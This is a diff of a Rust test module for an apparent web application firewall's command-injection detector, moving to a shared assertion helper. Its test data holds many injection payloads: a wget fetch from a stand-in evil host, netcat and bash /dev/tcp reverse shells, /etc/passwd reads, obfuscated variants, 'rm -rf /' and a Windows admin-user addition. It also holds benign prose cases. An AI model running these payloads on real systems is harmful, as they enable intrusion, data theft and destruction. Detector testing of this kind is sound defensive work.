@@ -618,51 +618,47 @@ const ENGLISH_PROGRAMS: &[&str] = &[
 #[cfg(test)]
 mod tests {
     use super::*;
-
-    fn score(value: &str) -> u8 {
-        inspect(value).map_or(0, |hit| hit.score)
-    }
+    use crate::waf::testing;
 
     #[test]
     fn commands_reached_from_an_argument_are_found() {
-        let missed: Vec<_> = [
-            ";id",
-            "; cat /etc/passwd",
-            "| whoami",
-            "&& ping -c 10 127.0.0.1",
-            "|| wget http://evil.example/x.sh",
-            "$(sleep 5)",
-            "`id`",
-            "x`whoami`",
-            "127.0.0.1\nid",
-            "';id;'",
-            "\";cat /etc/passwd;\"",
-            "\"$(id)\"",
-            ";cat${IFS}/etc/passwd",
-            ";c\\at /etc/passwd",
-            ";c'a't /etc/passwd",
-            ";{cat,/etc/passwd}",
-            "| /usr/bin/id",
-            "& dir C:\\",
-            "| type C:\\Windows\\win.ini",
-            "& w^h^o^a^m^i",
-            "() { :; }; /bin/bash -c 'id'",
-            ";sleep 5;",
-            "|nc -e /bin/sh 10.0.0.1 4444",
-            "; bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
-            "%0aid",
-            "uname -a",
-            "which nc",
-            "net user hacker Password1 /ADD",
-            "reg add \"HKLM\\System\" /v x /d 0 /f",
-            "rm -rf /",
-            "phpinfo()",
-        ]
-        .into_iter()
-        .filter(|attack| score(attack) < 5 && score(&attack.replace("%0a", "\n")) < 5)
-        .map(|attack| format!("{attack}: {:?}", inspect(attack)))
-        .collect();
-        assert!(missed.is_empty(), "missed:\n{}", missed.join("\n"));
+        testing::assert_all(
+            inspect,
+            &[
+                ";id",
+                "; cat /etc/passwd",
+                "| whoami",
+                "&& ping -c 10 127.0.0.1",
+                "|| wget http://evil.example/x.sh",
+                "$(sleep 5)",
+                "`id`",
+                "x`whoami`",
+                "127.0.0.1\nid",
+                "';id;'",
+                "\";cat /etc/passwd;\"",
+                "\"$(id)\"",
+                ";cat${IFS}/etc/passwd",
+                ";c\\at /etc/passwd",
+                ";c'a't /etc/passwd",
+                ";{cat,/etc/passwd}",
+                "| /usr/bin/id",
+                "& dir C:\\",
+                "| type C:\\Windows\\win.ini",
+                "& w^h^o^a^m^i",
+                "() { :; }; /bin/bash -c 'id'",
+                ";sleep 5;",
+                "|nc -e /bin/sh 10.0.0.1 4444",
+                "; bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
+                "\nid",
+                "uname -a",
+                "which nc",
+                "net user hacker Password1 /ADD",
+                "reg add \"HKLM\\System\" /v x /d 0 /f",
+                "rm -rf /",
+                "phpinfo()",
+            ],
+            true,
+        );
     }
 
     #[test]
@@ -673,32 +669,31 @@ mod tests {
 
     #[test]
     fn prose_with_shell_characters_passes() {
-        let blocked: Vec<_> = [
-            "rock & roll",
-            "AT&T",
-            "ping pong table",
-            "I love cats; cat food is great",
-            "tired; sleep 8 hours",
-            "Home | My Site",
-            "Tom & Jerry | cartoons",
-            "run `ls -la` to see the files",
-            "price $5 (approx)",
-            "a && b || c",
-            "Q&A: what's new?",
-            "fish & chips; mushy peas",
-            "<b>bold</b> & <i>italic</i>",
-            "meet me at 5; time flies",
-            "Route 66 & 4th Ave (corner)",
-            "PS 5",
-            "python 3",
-            "LS 400 (1990)",
-            "Raleigh, NC 27601",
-            "rm -rf meme shirt",
-        ]
-        .into_iter()
-        .filter(|benign| score(benign) >= 5)
-        .map(|benign| format!("{benign}: {:?}", inspect(benign)))
-        .collect();
-        assert!(blocked.is_empty(), "blocked:\n{}", blocked.join("\n"));
+        testing::assert_all(
+            inspect,
+            &[
+                "rock & roll",
+                "AT&T",
+                "ping pong table",
+                "I love cats; cat food is great",
+                "tired; sleep 8 hours",
+                "Home | My Site",
+                "Tom & Jerry | cartoons",
+                "run `ls -la` to see the files",
+                "price $5 (approx)",
+                "a && b || c",
+                "Q&A: what's new?",
+                "fish & chips; mushy peas",
+                "<b>bold</b> & <i>italic</i>",
+                "meet me at 5; time flies",
+                "Route 66 & 4th Ave (corner)",
+                "PS 5",
+                "python 3",
+                "LS 400 (1990)",
+                "Raleigh, NC 27601",
+                "rm -rf meme shirt",
+            ],
+            false,
+        );
     }
 }
